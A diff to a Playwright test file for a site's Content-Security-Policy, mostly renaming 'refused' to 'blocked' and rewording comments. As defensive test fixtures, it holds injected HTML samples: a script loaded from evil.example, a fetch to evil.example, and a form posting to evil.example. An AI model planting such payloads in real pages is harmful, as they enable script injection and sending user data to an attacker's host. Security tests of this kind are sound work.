@@ -1,4 +1,4 @@
-/** The Content-Security-Policy in the browser: nothing of the site's is refused, everything else is. */
+/** The Content-Security-Policy in the browser: it blocks everything except the site's own files. */
 import { globSync, readFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import { join } from 'node:path';
@@ -11,18 +11,18 @@ const dist = join(root, 'dist');
 const addresses = [...globSync('**/*.html', { cwd: dist }).map((file) => pagePath(file, '/')), '/no/such/page'];
 
 declare global {
-  var refused: string[];
+  var blocked: string[];
   var ran: unknown;
-  // Not yet among TypeScript's own.
+  // TypeScript doesn't have these types yet.
   var trustedTypes: { createPolicy(name: string, rules: Record<string, (text: string) => string>): unknown };
 }
 
-/** Keeps what the browser refuses in the page's `refused`: the directive, and `inline` or the host. */
-function watchRefusals(page: Page) {
+/** Stores what the browser blocks in the page's `blocked`: the directive, and `inline` or the host. */
+function watchBlocked(page: Page) {
   return page.addInitScript(() => {
-    globalThis.refused = [];
+    globalThis.blocked = [];
     addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
-      refused.push(`${effectiveDirective} ${URL.parse(blockedURI)?.host ?? blockedURI}`),
+      blocked.push(`${effectiveDirective} ${URL.parse(blockedURI)?.host ?? blockedURI}`),
     );
   });
 }
@@ -31,14 +31,14 @@ const inPage = (html: string) => /<meta http-equiv="Content-Security-Policy" con
 
 test('blocks nothing of any page, by header or meta tag', async ({ page, browserName }) => {
   test.slow();
-  await watchRefusals(page);
+  await watchBlocked(page);
   await page.setViewportSize({ width: 390, height: 844 });
-  // What an engine makes of a policy shows on one page of each kind.
+  // Other engines test one page of each kind.
   for (const address of browserName === 'chromium' ? addresses : everyPage) {
     const response = await page.goto(address);
     const policy = inPage(await page.content());
     expect(policy, address).toContain("default-src 'none'");
-    // The header allows the styles of all pages, a page its own. On loopback the server leaves out what needs TLS.
+    // The header allows the styles of all pages, a page only its own. On loopback, the server omits directives that need TLS.
     const header = response?.headers()['content-security-policy'];
     for (const source of `${policy}; frame-ancestors 'none'`.split('; ').flatMap((part) => part.split(' ')))
       expect(header, address).toContain(source);
@@ -47,11 +47,11 @@ test('blocks nothing of any page, by header or meta tag', async ({ page, browser
     await page.keyboard.press('Escape');
     await page.getByRole('button', { name: 'Dark theme' }).click();
     for (const filter of await page.getByRole('group').getByRole('button').all()) await filter.click();
-    expect(await page.evaluate(() => refused), address).toEqual([]);
+    expect(await page.evaluate(() => blocked), address).toEqual([]);
   }
 });
 
-/** What an attacker could get into a page, and the directive that refuses it. */
+/** HTML that an attacker could inject into a page, by the directive that blocks it. */
 const attacks = {
   'script-src-elem inline': '<script>ran = 1</script>',
   'script-src-elem evil.example': '<script src="https://evil.example/x.js"></script>',
@@ -78,9 +78,9 @@ const policies = {
 
 for (const [name, policy] of Object.entries(policies)) {
   test.describe(`${name} policy`, () => {
-    /** Opens Contact with one of both policies, and with more in it. */
+    /** Opens Contact with one of the two policies, and with injected HTML. */
     async function openWith(page: Page, planted: string) {
-      await watchRefusals(page);
+      await watchBlocked(page);
       await page.route('**/contact', async (route) => {
         const response = await route.fetch();
         const headers = response.headers();
@@ -92,7 +92,7 @@ for (const [name, policy] of Object.entries(policies)) {
       });
       await page.goto('/contact');
     }
-    const refusals = (page: Page) => page.evaluate(() => [...new Set(refused)]);
+    const blockedIn = (page: Page) => page.evaluate(() => [...new Set(blocked)]);
 
     test.beforeEach(({ expected }) => {
       expected.push(/./);
@@ -100,7 +100,7 @@ for (const [name, policy] of Object.entries(policies)) {
 
     test('blocks scripts and styles planted into the page', async ({ page }) => {
       await openWith(page, Object.values(attacks).join('\n'));
-      await expect.poll(async () => (await refusals(page)).sort()).toEqual(Object.keys(attacks).sort());
+      await expect.poll(async () => (await blockedIn(page)).sort()).toEqual(Object.keys(attacks).sort());
       expect(await page.evaluate(() => globalThis.ran)).toBeUndefined();
       await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
     });
@@ -124,17 +124,17 @@ for (const [name, policy] of Object.entries(policies)) {
         });
       });
       expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError', expect.stringMatching(/TypeError|EvalError/)]);
-      expect(await page.evaluate(() => fetch('https://evil.example/').catch(() => 'refused'))).toBe('refused');
-      expect(await refusals(page)).toEqual(
+      expect(await page.evaluate(() => fetch('https://evil.example/').catch(() => 'blocked'))).toBe('blocked');
+      expect(await blockedIn(page)).toEqual(
         expect.arrayContaining(['connect-src evil.example', 'trusted-types trusted-types-policy']),
       );
     });
 
     test('sends forms nowhere but to the service and the site', async ({ page }) => {
       await openWith(page, '<form method="post" action="https://evil.example/"><button>Take this</button></form>');
-      // Playwright would wait for a page that never comes.
+      // Playwright would wait for the blocked navigation.
       await page.getByRole('button', { name: 'Take this' }).click({ noWaitAfter: true });
-      await expect.poll(() => refusals(page)).toContain('form-action evil.example');
+      await expect.poll(() => blockedIn(page)).toContain('form-action evil.example');
       const allowed = inPage(readFileSync(join(dist, 'contact.html'), 'utf8'))?.match(/form-action ([^;]*)/)?.[1];
       expect(allowed).toBe("'self' https://formsubmit.co");
     });
